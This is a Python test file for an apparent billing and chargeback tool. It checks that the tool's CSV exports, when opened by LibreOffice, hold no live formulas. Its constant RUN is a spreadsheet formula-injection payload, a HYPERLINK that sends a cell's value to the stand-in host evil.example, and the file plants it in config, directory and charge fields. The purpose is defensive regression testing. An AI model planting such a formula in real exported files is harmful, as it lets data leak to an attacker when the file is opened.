"""No cell of a CSV file that the program writes runs as a formula, seen with the eyes of LibreOffice."""

from __future__ import annotations

import gzip
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from needed import needs
from openchargeback.cli.main import cli
from openchargeback.portal.statement_data import data_files
from openchargeback.publish.books import open_books, open_cache
from openchargeback.publish.month_charges import MonthCharges
from programs import find

SOURCE = Path(__file__).parents[1] / "src/openchargeback"
RUN = '=HYPERLINK("https://evil.example/?x="&A1,"pay")'
HEAD = "BillingPeriodStart,ChargeCategory,BilledCost,ListCost,ServiceName,ResourceId,ResourceName,SubAccountId,Tags\n"


def charge(month: str, cost: str, **tags: str) -> str:
    """A charge whose every text is a formula."""
    cell = RUN.replace('"', '""')
    named = json.dumps({"ticket": RUN, **tags}).replace('"', '""')
    return f'{month}-01,Usage,{cost},9,"{cell}","{cell}","{cell}","{cell}","{named}"\n'


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed month with held charges, and an open one that bills, credits and bills again charges of it."""
    root = tmp_path_factory.mktemp("ledger")
    config = {
        "organization": RUN,
        "tags": {"pi": "pi_email", "project": "project_id", "fund": "fund_org", "references": {"ticket": "ticket"}},
        "journal": {"credit_fund": "C-1", "description": "=1+1 {{ project }}"},
        "sources": {"aws": {"label": RUN, "severity": {"missing-label": "off"}}},
    }
    people = {"people": [{"email": "=1+1@example.edu", "name": RUN, "department": RUN}]}
    projects = {"projects": [{"id": RUN, "title": RUN, "pi": "=1+1@example.edu", "fund": "F-1"}]}
    known = {"pi_email": "=1+1@example.edu", "project_id": RUN, "fund_org": "F-1"}
    files = {
        "config.yaml": json.dumps(config),
        "directory/people.yaml": json.dumps(people),
        "directory/projects.yaml": json.dumps(projects),
        "charges/2025-01/aws.csv": HEAD + charge("2025-01", "5", **known) + charge("2025-01", "7"),
        "charges/2025-02/aws.csv": HEAD + charge("2025-02", "-5", **known) + charge("2025-02", "7"),
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    run(
        root,
        "review",
        "approve",
        "--all",
        "--all-flags",
        "--period",
        "2025-02",
        "--reason",
        RUN,
        "--by",
        RUN,
        code=None,
    )
    run(root, "periods", "close", "2025-01", "--on", "2025-02-05", "--by", RUN, "--leave-held")
    late = ("--period", "2025-02", "--of", "2025-01", "--reason", RUN, "--by", RUN)
    run(root, "review", "credit", *late, "--source", "aws", "--set-fund", "F-2")
    return root


def run(root: Path, *arguments: str, code: int | None = 0) -> str:
    done = CliRunner().invoke(cli, [*arguments, "--ledger", str(root)], catch_exceptions=False)
    assert code is None or done.exit_code == code, done.output
    return done.stdout


def csv_files(ledger: Path, folder: Path) -> Iterator[Path]:
    """Every kind of CSV file that the program writes, each under a name of its own."""
    run(ledger, "build", "-o", str(folder / "public"), "--no-pdf")
    run(ledger, "directory", "suggest", "--period", "2025-02", "-o", str(folder / "suggested.csv"))
    books = open_books(ledger)
    charges, period = MonthCharges(books.ledger, open_cache(ledger)), books.periods[1]
    for number, statement in enumerate(period.statements):
        for file in data_files(statement, books.ledger.config, charges.rows(period, statement)):
            name, _, ending = file.name.partition(".")
            (folder / f"{name}-{number}.{ending}").write_bytes(file.content)
    shutil.copytree(ledger / "periods", folder / "periods")
    shutil.rmtree(folder / "public/schemas", ignore_errors=True)
    target = folder / "flat"
    target.mkdir()
    for path in sorted(folder.rglob("*.csv*")):
        data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        flat = target / path.relative_to(folder).as_posix().removesuffix(".gz").replace("/", "-")
        flat.write_bytes(data)
        yield flat


def formulas(folder: Path, files: list[Path]) -> dict[str, int]:
    """How many formulas LibreOffice finds in each CSV file; it is asked to run what looks like one."""
    office = find("soffice")
    assert office is not None
    # Comma, double quote, UTF-8, from line 1; the last one is `evaluate formulas`, which newer versions leave out.
    read = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    command = [office, profile, "--headless", f"--infilter={read}", "--convert-to", "fods", "--outdir", str(folder)]
    subprocess.run([*command, *map(str, files)], check=True, capture_output=True, timeout=300)
    found = {path.name: (folder / f"{path.stem}.fods").read_text("utf-8") for path in files}
    assert all("<table:table-cell" in text for text in found.values())
    return {name: len(re.findall(r"table:formula=", text)) for name, text in found.items()}


@pytest.mark.slow
@needs("soffice")
def test_libreoffice_finds_no_formula(ledger: Path, tmp_path: Path) -> None:
    files = list(csv_files(ledger, tmp_path))
    names = {path.name.removeprefix("public-") for path in files}
    assert names >= {
        *(f"data-2025-02-{name}.csv" for name in ("charges", "lines", "focus-cost-and-usage", "focus-invoice-detail")),
        *(f"journals-2025-01-{name}.csv" for name in ("detail", "summary", "gl")),
        *(f"periods-2025-01.{name}.csv" for name in ("lines", "statements", "resources", "held")),
        *("data-focus-billing-period.csv", "lines-0.csv", "charges-0.csv", "suggested.csv"),
    }
    unprotected = tmp_path / "flat" / "unprotected.csv"
    unprotected.write_text(f'a,b\n1,"{RUN.replace(chr(34), chr(34) * 2)}"\n')
    found = formulas(tmp_path / "flat", [*files, unprotected])
    assert found.pop("unprotected.csv") == 1, "LibreOffice runs formulas at all"
    assert found == dict.fromkeys(found, 0)


def test_csv_files_are_written_where_the_rule_is() -> None:
    """So that it cannot be forgotten: `csv_bytes`, and `copy_csv` for DuckDB. Journals have their own filter."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\(FORMAT '?csv")
    found = {
        path.relative_to(SOURCE).as_posix()
        for path in (*SOURCE.rglob("*.py"), *SOURCE.rglob("*.sql"))
        if writers.search(path.read_text("utf-8"))
    }
    # layout.py rewrites a file for DuckDB to read; nobody else sees it. Converters write whole lines: what many charges
    # share is joined only once. browsed_charges.py writes whole numbers, own_charges.py rows of a file that is guarded.
    unguarded = {"focus/layout.py", "billing/browsed_charges.py", "billing/own_charges.py"}
    assert found == {"focus/csv_copy.py", "convert/writing.py"} | unguarded
    assert "guarded_sql(" in (SOURCE / "convert/writing.py").read_text("utf-8")


def test_every_cell_of_a_shipped_journal_is_filtered() -> None:
    """Whatever is no number or date of ours."""
    safe = {"line.period", "line.date", "line.role", "line.side", "line.number"}
    for path in (SOURCE.parents[1] / "site_templates/journals").glob("*.csv"):
        printed = re.findall(r"{{-?\s*(.+?)\s*-?}}", path.read_text("utf-8"))
        assert printed
        assert [each for each in printed if each not in safe and not each.endswith(("| csv", "| amount"))] == []
